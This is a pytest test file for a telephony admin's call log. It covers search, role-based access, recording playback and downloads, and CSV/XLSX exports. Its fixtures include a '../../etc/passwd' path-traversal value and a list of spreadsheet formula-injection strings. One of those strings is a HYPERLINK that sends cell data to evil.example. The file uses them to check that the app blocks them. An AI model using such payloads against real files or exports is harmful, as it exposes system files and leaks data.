"""The call log: search, detail, recordings by right and by owner, exports."""
from __future__ import annotations

import csv
import io
import wave
from datetime import datetime, timedelta, timezone
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from telephonist.webadmin import db
from telephonist.webadmin.schema import audit_log
from tests.webadmin.support import add_leg, login, tone, write_alaw_wav

TZ = ZoneInfo("Asia/Shanghai")


@pytest.fixture
def calls(app, user_ids, web_config):
    rec = write_alaw_wav(__import__("pathlib").Path(web_config.recordings_dir) / "2026-11-23" / "a.wav", tone(440, 1000))
    rec2 = write_alaw_wav(__import__("pathlib").Path(web_config.recordings_dir) / "2026-11-23" / "b.wav", tone(440, 500))
    now = datetime.now(timezone.utc)
    legs = {
        "mine": add_leg(app, caller="13800000001", dialled="4008001234", application="agent:1001", recording=str(rec),
                        talk_s=95, started=now - timedelta(hours=2), channel=1,
                        events=[("state", {"state": "ringing"}), ("dtmf", {"digit": "1"}), ("record", {"ms": 1000})]),
        "theirs": add_leg(app, caller="13900000002", dialled="4008001234", application="agent:1002",
                          recording=str(rec2), talk_s=20, started=now - timedelta(hours=1), channel=2),
        "missed": add_leg(app, caller="13700000003", dialled="4008009999", application="ivr:main",
                          disposition="no_answer", talk_s=0, started=now - timedelta(minutes=30), span="e1a", channel=3),
        "outside": add_leg(app, caller="13600000004", dialled="95566", application="app:crm", direction="outbound",
                           recording="../../etc/passwd", talk_s=10, started=now - timedelta(days=3), channel=4),
    }
    return legs


def _ids(html: str, legs: dict) -> set[str]:
    return {name for name, leg_id in legs.items() if f'href="/calls/{leg_id}"' in html}


def test_search_filters(client, calls):
    login(client, "super")
    page = lambda **q: _ids(client.get("/calls/", query_string=q).get_data(as_text=True), calls)  # noqa: E731
    assert page() == {"mine", "theirs", "missed", "outside"}
    assert page(number="139000") == {"theirs"}
    assert page(dialled="4008001234") == {"mine", "theirs"}
    assert page(disposition="no_answer") == {"missed"}
    assert page(channel="e1a/3") == {"missed"} and page(channel="pstn") == {"mine", "theirs", "outside"}
    assert page(direction="outbound") == {"outside"}
    assert page(min_talk_s="60") == {"mine"}
    assert page(max_talk_s="15") == {"missed", "outside"}
    yesterday = (datetime.now(TZ) - timedelta(days=1)).strftime("%Y-%m-%d")
    assert page(since=yesterday) == {"mine", "theirs", "missed"}
    assert page(until=(datetime.now(TZ) - timedelta(days=2)).strftime("%Y-%m-%dT%H:%M")) == {"outside"}
    bad = client.get("/calls/?since=yesterday")
    assert bad.status_code == 200 and "since:" in bad.get_data(as_text=True)


def test_detail_shows_the_events_and_the_player(client, calls):
    login(client, "super")
    html = client.get(f"/calls/{calls['mine']}").get_data(as_text=True)
    assert "13800000001" in html and "dtmf" in html and "digit=1" in html
    assert f'src="/calls/{calls["mine"]}/recording"' in html
    assert f'href="/calls/{calls["mine"]}/recording/download"' in html


def test_an_a_law_recording_is_played_as_pcm(client, calls):
    login(client, "super")
    r = client.get(f"/calls/{calls['mine']}/recording")
    assert r.status_code == 200 and r.mimetype == "audio/wav"
    with wave.open(io.BytesIO(r.data)) as w:
        assert (w.getnchannels(), w.getsampwidth(), w.getframerate(), w.getnframes()) == (1, 2, 8000, 8000)
        got = w.readframes(8000)
    import array
    a, b = array.array("h", got), array.array("h", tone(440, 1000))
    assert max(abs(x - y) for x, y in zip(a, b)) < 300          # A-law's error at this level, not noise


def test_an_agent_sees_only_their_own_calls_and_recordings(client, calls):
    login(client, "agent1")
    assert _ids(client.get("/calls/").get_data(as_text=True), calls) == {"mine"}
    assert client.get(f"/calls/{calls['mine']}").status_code == 200
    assert client.get(f"/calls/{calls['mine']}/recording").status_code == 200
    # another agent's call, by URL: it does not exist for this user
    for url in (f"/calls/{calls['theirs']}", f"/calls/{calls['theirs']}/recording",
                f"/calls/{calls['theirs']}/recording/download", f"/calls/{calls['missed']}"):
        assert client.get(url).status_code in (403, 404), url
    assert client.get(f"/calls/{calls['theirs']}/recording").status_code == 404
    # listening is not downloading
    assert client.get(f"/calls/{calls['mine']}/recording/download").status_code == 403
    assert "download" not in client.get(f"/calls/{calls['mine']}").get_data(as_text=True)


def test_a_recording_path_outside_the_recordings_dir_is_never_served(client, calls):
    login(client, "admin")
    assert client.get(f"/calls/{calls['outside']}/recording").status_code == 404
    assert client.get(f"/calls/{calls['outside']}/recording/download").status_code == 404


def test_download_is_the_file_as_recorded_and_audited(app, client, calls, web_config):
    login(client, "super")
    r = client.get(f"/calls/{calls['mine']}/recording/download")
    assert r.status_code == 200 and "attachment" in r.headers["Content-Disposition"]
    assert r.data[20:22] == b"\x06\x00"                          # still A-law
    with db.reading(app) as conn:
        assert conn.execute(select(audit_log.c.action).where(audit_log.c.target == f"leg:{calls['mine']}")).scalar() \
            == "recording_download"


def test_exports_hold_what_the_search_found(client, calls):
    login(client, "super")
    r = client.get("/calls/export.csv?dialled=4008001234")
    assert r.status_code == 200 and r.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(r.get_data(as_text=True).lstrip("\ufeff"))))
    assert sorted(row["caller"] for row in rows) == ["13800000001", "13900000002"]
    assert {row["talk_ms"] for row in rows} == {"95000", "20000"}
    r = client.get("/calls/export.xlsx?disposition=no_answer")
    ws = load_workbook(io.BytesIO(r.data)).active
    values = list(ws.values)
    assert values[0][:3] == ("id", "call_id", "direction") and len(values) == 2
    assert values[1][6] == "13700000003"


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+8613800000001", "-2+3", "@SUM(1,2)",
            "\t=1+1", "\r=1+1"]


def test_exported_cells_never_become_formulas(app, client, user_ids):
    for i, text in enumerate(FORMULAS):                      # a caller ID is whatever the line sent
        add_leg(app, caller=text, dialled="4008009999", application="ivr:main", channel=i + 1)
    login(client, "super")
    rows = list(csv.DictReader(io.StringIO(client.get("/calls/export.csv?dialled=4008009999")
                                           .get_data(as_text=True).lstrip("\ufeff"))))
    assert sorted(row["caller"] for row in rows) == sorted("'" + text for text in FORMULAS)
    assert {row["dialled"] for row in rows} == {"4008009999"}      # plain values are left alone
    ws = load_workbook(io.BytesIO(client.get("/calls/export.xlsx?dialled=4008009999").data)).active
    header = [c.value for c in ws[1]]
    callers = [row[header.index("caller")] for row in ws.iter_rows(min_row=2)]
    assert sorted(c.value for c in callers) == sorted(FORMULAS)      # shown exactly as they are ...
    assert all(c.data_type == "s" and c.quotePrefix for c in callers)  # ... as text, never a formula
    talk = [row[header.index("talk_ms")] for row in ws.iter_rows(min_row=2)]
    assert all(c.data_type == "n" for c in talk)


def test_an_agents_export_right_is_refused_and_search_is_their_own(app, client, calls):
    login(client, "agent2")
    assert client.get("/calls/export.csv").status_code == 403
    assert _ids(client.get("/calls/?dialled=4008001234").get_data(as_text=True), calls) == {"theirs"}
